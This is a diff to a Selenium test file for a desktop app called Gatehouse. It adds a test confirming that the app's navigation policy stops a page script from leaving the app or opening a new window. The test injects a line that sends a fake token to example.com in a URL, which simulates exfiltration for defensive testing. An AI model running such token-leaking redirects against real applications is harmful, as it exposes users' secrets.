@@ -1,5 +1,7 @@
 """The app shell: window, navigation, the real keychain check, theme, keyboard use."""
 
+import time
+
 from selenium.webdriver.common.by import By
 from selenium.webdriver.common.keys import Keys
 
@@ -11,6 +13,21 @@ def test_window_opens_on_start_screen_with_navigation(app):
     assert nav_links == ["Start", "System users", "Inspect token", "Settings"]
     app.text("Demo: nothing leaves this computer")
     assert app.link("Start").get_attribute("aria-current") == "page"
+
+
+def test_the_window_cannot_be_taken_elsewhere(app):
+    """A script in the page cannot leave the app (a token in a URL would go with it) nor open a
+    window: the navigation policy keeps the window on the app's own pages."""
+    app.heading("Welcome to Gatehouse")
+    own = app.driver.current_url
+    app.driver.execute_script("window.location.href = 'https://example.com/?token=EAAsecret';")
+    time.sleep(1)
+    assert app.driver.current_url == own
+    app.heading("Welcome to Gatehouse")
+    app.driver.execute_script("window.open('https://example.com/');")
+    time.sleep(1)
+    assert len(app.driver.window_handles) == 1
+    assert app.driver.current_url == own
 
 
 def test_settings_checks_the_real_keychain(app):
